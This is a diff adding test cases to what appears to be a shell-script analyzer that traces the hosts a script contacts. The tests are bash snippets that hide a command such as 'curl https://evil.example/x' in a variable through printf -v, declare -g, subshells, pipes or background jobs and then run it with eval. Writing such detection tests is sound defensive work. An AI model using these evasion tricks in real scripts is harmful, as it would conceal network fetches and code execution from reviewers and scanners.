@@ -34,8 +34,29 @@ test.each([
   ["before `export -n`, after which bash forgets it", `${FETCH}; P=true export -n P; eval "$P"`],
   ["before `local`", `f() { ${FETCH} local P; eval "$P"; }; f`],
   ["and unset in the background", `${FETCH}; unset P & eval "$P"`],
+  [
+    "before `printf -v`, which sets it for good",
+    `P=true; P=x printf -v P 'curl https://evil.example/x'; eval "$P"`,
+  ],
+  ["before `printf -v` of another", `${FETCH}; P=true printf -v Q P; eval "$P"`],
+  ["before `declare -g`", `P=true; P=x declare -g ${FETCH}; eval "$P"`],
+  ["in a subshell", `${FETCH}; (P=true); eval "$P"`],
+  ["in a subshell of a subshell", `${FETCH}; (P=true; (P=false); eval "$P"; P=x); eval "$P"`],
+  ["and unset in a subshell", `${FETCH}; (unset P); eval "$P"`],
+  ["in a substitution", `${FETCH}; : "$(P=true)"; eval "$P"`],
+  ["in another shell", `${FETCH}; sh -c 'P=true'; eval "$P"`],
+  ["in the background", `${FETCH}; P=true & eval "$P"`],
+  ["in a pipe", `${FETCH}; true | P=true; eval "$P"`],
+  [
+    "at the end of a pipe, where some shells keep it",
+    `echo 'curl https://evil.example/x' | read P; eval "$P"`,
+  ],
 ])("a variable that is set %s cannot hide a command", (_how, script) => {
   expect(follow(script)).toEqual(["evil.example"]);
+});
+
+test("what is set in a subshell is not set after it, nor are its arguments", () => {
+  expect(follow('(P=a; set -- b); cat "$P" "$1"; P=c; cat "$P"')).toEqual([" *", " *", " c"]);
 });
 
 test("a list before a command is expanded", () => {
